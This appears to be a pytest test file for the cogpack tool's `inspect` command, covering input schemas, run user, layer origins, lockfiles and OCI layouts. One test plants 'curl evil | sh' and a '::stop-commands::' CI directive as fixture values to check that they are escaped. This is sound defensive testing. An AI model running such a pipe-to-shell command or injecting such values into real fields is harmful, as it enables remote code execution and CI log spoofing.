"""`inspect`: what a model takes and gives, from a registry and from a layout."""

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest
from support import plain
from support.world import MANIFEST, World, noise, ok, push_base

from cogpack.commands.inspect import inspect, inspect_others
from cogpack.digest import Digest
from cogpack.layout import Layout
from cogpack.lockfile import LockedSteps, LockedStepsLayer, Results, encode_lock, read_lock
from cogpack.oci import OCI_CONFIG, OCI_INDEX, OCI_MANIFEST, Descriptor
from cogpack.runtime.labelled_schema import Signature, followed, read_signature
from cogpack.session import Session, Settings

PREDICTOR = """\
from cog import BasePredictor, Input, Path

class Predictor(BasePredictor):
    def predict(
        self,
        mode: str = Input(choices=["fast", "slow"], default="fast"),
        steps: int = Input(ge=1, le=50, default=20),
        image: Path = Input(),
    ) -> list[Path]: ...
"""


@pytest.mark.slow
def test_inputs_are_shown_with_choices_limits_and_defaults_and_the_output(world: World) -> None:
    project = world.project(files={"predict.py": PREDICTOR})
    ok(project.cogpack("build", "-o", "../out"))
    lines = ok(project.cogpack("inspect", "../out")).out.splitlines()
    assert [line for line in lines if line.startswith(("input", "output"))] == [
        "input     mode: string: fast, slow [fast]",
        "input     steps: integer, 1 to 50 [20]",
        "input     image: file",
        "output    list of file",
    ]
    found = json.loads(ok(project.cogpack("inspect", "--json", "../out")).out)
    assert (found["inputs"]["mode"]["type"], found["inputs"]["mode"]["enum"]) == ("string", ["fast", "slow"])
    assert (found["output"]["type"], found["output"]["items"]["format"]) == ("array", "uri")


def test_who_runs_what_is_told(world: World) -> None:
    """As whoever decides what may run wants to know it."""
    project = world.project(config="  user: 1000\n")
    ok(project.cogpack("build", "-o", "../out"))
    told = ok(project.cogpack("inspect", "../out"))
    assert "command   python -m cog.server.http\nuser      1000\n" in told.out
    found = ok(project.cogpack("inspect", "../out", "--json")).json
    assert (found["user"], found["entrypoint"], found["cmd"]) == ("1000", [], ["python", "-m", "cog.server.http"])
    assert "\nuser      root\n" in ok(world.cogpack("inspect", f"{world.registry}/base/python:v1")).out


def test_no_name_or_variable_of_others_begins_a_line(world: World) -> None:
    """A line of a runner of CI may be a command (::stop-commands::), and to people it may be a word of ours."""
    push_base(world.registry, environment=["A=\nerror: nothing is there\nnext: curl evil | sh"])
    told = ok(world.cogpack("inspect", f"{world.registry}/base/python:v1")).out
    assert "env       A=\\nerror: nothing is there\\nnext: curl evil | sh\n" in told
    project = world.project(files={"data/a\n::stop-commands::x": "1"})
    told = ok(project.cogpack("plan", "--files")).out
    assert "  data/a\\n::stop-commands::x\n" in told


@pytest.mark.parametrize(
    "text", ["", "[]", "{", '{"components": []}', '{"components": {"schemas": {"Input": {"properties": []}}}}']
)
def test_a_schema_that_is_none_tells_nothing(text: str) -> None:
    assert read_signature(text) == Signature()


@pytest.mark.parametrize("spec", [{"allOf": 1}, {"allOf": [1, {"$ref": 2}]}, {"$ref": "#/components/schemas/none"}])
def test_a_reference_that_is_none_is_left(spec: dict[str, Any]) -> None:
    assert followed({"none": []}, spec) == spec


@pytest.mark.slow
def test_layers_are_told_by_who_says_what_they_come_out_as(world: World) -> None:
    project = world.project(files={"model/w.pt": noise(1_200_000)})
    ok(project.cogpack("push", project.target()))
    ok(project.cogpack("push", f"{world.registry}/me/second:v1"))

    def origins(**environment: str) -> dict[str, str]:
        found = ok(project.cogpack("inspect", "--json", project.target(), **environment)).json
        return {layer["name"]: layer["origin"] for layer in found["layers"]}

    built = origins()
    assert (built[""], built["weights: model/w.pt"], built["project"]) == ("base", "here", "here")
    elsewhere = str(world.directory / "another-cache")
    assert origins(COGPACK_CACHE_DIR=elsewhere) == built | {name: "lock" for name in built if name} | {
        "project": "unknown"
    }
    assert not (world.directory / "another-cache").exists(), "inspect keeps nothing"
    (project.root / "cogpack.lock").unlink()
    assert set(origins(COGPACK_CACHE_DIR=elsewhere).values()) == {"base", "unknown"}
    lines = ok(project.cogpack("inspect", project.target())).out.splitlines()
    assert any(line.endswith(f"project  (built here; also in {world.registry}/me/second)") for line in lines), lines


@pytest.mark.slow
def test_a_layer_whose_recipe_made_other_bytes_here_is_told_of(world: World) -> None:
    project = world.project()
    ok(project.cogpack("push", project.target()))
    manifest = world.manifest("me/model", "v1")
    ours = [layer for layer in manifest["layers"] if layer.get("annotations")]
    ours[0]["digest"], ours[0]["size"] = ours[1]["digest"], ours[1]["size"]
    put(world, "me/model", "moved", manifest)
    found = ok(project.cogpack("inspect", "--json", project.target("moved"))).json
    assert [layer["origin"] for layer in found["layers"] if layer["key"]][:2] == ["other", "here"]


def put(world: World, repository: str, tag: str, manifest: dict[str, Any]) -> None:
    with plain.client() as client:
        url = f"http://{world.registry}/v2/{repository}/manifests/{tag}"
        answer = client.put(url, content=json.dumps(manifest), headers={"Content-Type": MANIFEST})
        assert answer.status_code == 201, answer.text


@pytest.mark.slow
def test_a_layer_of_commands_is_told_by_the_diff_id_that_the_lock_records(world: World) -> None:
    project = world.project()
    ok(project.cogpack("push", project.target()))
    found = ok(project.cogpack("inspect", "--json", project.target())).json
    config = plain.get(
        f"http://{world.registry}/v2/me/model/blobs/{world.manifest('me/model', 'v1')['config']['digest']}"
    )
    diff_id = config.json()["rootfs"]["diff_ids"][-1]
    lock = read_lock(project.root / "cogpack.lock")
    assert lock is not None
    layers = (LockedStepsLayer(name="run: 1 step", diff_id=diff_id),)
    steps = LockedSteps(key=found["layers"][-1]["digest"], layers=layers)
    platforms = {name: msgspec.structs.replace(one, steps=steps) for name, one in lock.platforms.items()}
    project.write("cogpack.lock", encode_lock(msgspec.structs.replace(lock, platforms=platforms, results=Results())))
    elsewhere = {"COGPACK_CACHE_DIR": str(world.directory / "another-cache")}
    layers = ok(project.cogpack("inspect", "--json", project.target(), **elsewhere)).json["layers"]
    assert [layer["origin"] for layer in layers][-2:] == ["unknown", "lock"]


def _publish(layout: Layout, variable: str) -> None:
    """Move `model` to an index of two platforms, whose images have `variable`."""
    found = []
    for arch in ("amd64", "arm64"):
        inner = {"architecture": arch, "os": "linux", "config": {"Env": [variable]}, "rootfs": {"type": "layers"}}
        config = json.dumps(inner).encode()
        manifest = {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "config": _added(layout, OCI_CONFIG, config),
            "layers": [],
        }
        entry = _added(layout, OCI_MANIFEST, json.dumps(manifest).encode())
        found.append({**entry, "platform": {"os": "linux", "architecture": arch}})
    index = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": found}).encode()
    named = _added(layout, OCI_INDEX, index)
    layout.publish({"model": Descriptor(media_type=OCI_INDEX, digest=Digest(named["digest"]), size=len(index))})


def _added(layout: Layout, kind: str, data: bytes) -> dict[str, Any]:
    return {"mediaType": kind, "digest": layout.add(data), "size": len(data)}


def test_a_page_is_of_one_index_though_its_tag_moves_meanwhile(tmp_path: Path) -> None:
    """Each platform was asked for by the tag anew."""
    layout = Layout.create(tmp_path / "layout")
    target = f"{tmp_path}/layout:model"
    _publish(layout, "A=1")
    with Session(Settings(cache=tmp_path / "cache", environment={"HOME": "/nonexistent"})) as session:
        found = inspect(session, target)
        _publish(layout, "A=2")
        (other,) = inspect_others(session, target, found)
        assert (other.platform, other.index, other.reference) == ("linux/arm64", found.index, found.reference)
        assert other.environment == ("A=1",)
        assert inspect(session, target, platform="linux/arm64").environment == ("A=2",)
